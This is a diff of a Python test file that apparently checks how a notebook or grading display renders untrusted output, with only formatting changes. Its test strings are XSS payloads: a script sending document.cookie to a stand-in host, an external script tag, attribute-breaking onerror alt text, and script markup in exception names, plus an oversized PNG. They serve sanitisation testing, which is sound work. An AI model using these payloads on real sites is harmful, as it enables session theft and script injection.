@@ -27,8 +27,12 @@ def shown(**data: str) -> str:
 
 @case("Displays HTML with a script in it.")
 def script(desk: Desk) -> None:
-    code = "<script>document.body.innerHTML = '10 / 10'; fetch('http://example.org/' + document.cookie)</script>"
-    with_text(desk, code, "<SCRIPT SRC=//example.org/x.js></SCRIPT>", last=shown(text_html=code, text_plain=code))
+    code = (
+        "<script>document.body.innerHTML = '10 / 10'; fetch('http://example.org/' + document.cookie)</script>"
+    )
+    with_text(
+        desk, code, "<SCRIPT SRC=//example.org/x.js></SCRIPT>", last=shown(text_html=code, text_plain=code)
+    )
 
 
 @case("Displays JavaScript, a widget and a drawing that runs.")
@@ -84,7 +88,9 @@ def huge_pictures(desk: Desk) -> None:
     header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
     picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10_000)))
     encoded = base64.b64encode(picture + chunk(b"IEND", b"")).decode()
-    large = "import base64\nlarge = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(20_000_000)).decode()\n"
+    large = (
+        "import base64\nlarge = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(20_000_000)).decode()\n"
+    )
     desk.hand_in(last=f"{large}{shown(image_png=encoded)}\ndisplay({{'image/png': large}}, raw=True)")
 
 
@@ -110,7 +116,7 @@ def markdown_bomb(desk: Desk) -> None:
 @case("Gives its pictures alternative texts that end the attribute.")
 def alternative_texts(desk: Desk) -> None:
     picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(100)).decode()
-    alt = "x\" onerror=\"alert(1)\"><script>alert(1)</script>"
+    alt = 'x" onerror="alert(1)"><script>alert(1)</script>'
     with_text(desk, f"![{alt}](data:image/png;base64,{picture})", last=(
         "from IPython.display import display\n"
         f"display({{'image/png': {picture!r}}}, metadata={{'image/png': {{'alt': {alt!r}}}}}, raw=True)"
@@ -134,8 +140,10 @@ def templates(desk: Desk) -> None:
 
 @case("Names a function and an exception by markup.", marks=NUMBERS.cheats)
 def names_of_markup(desk: Desk) -> None:
-    desk.hand_in(centre="""
+    desk.hand_in(
+        centre="""
         def centre(X):
             error = type("<img src=x onerror=alert(1)>", (Exception,), {})
             raise error("</pre><script>alert(1)</script><pre>")
-        """)
+        """
+    )
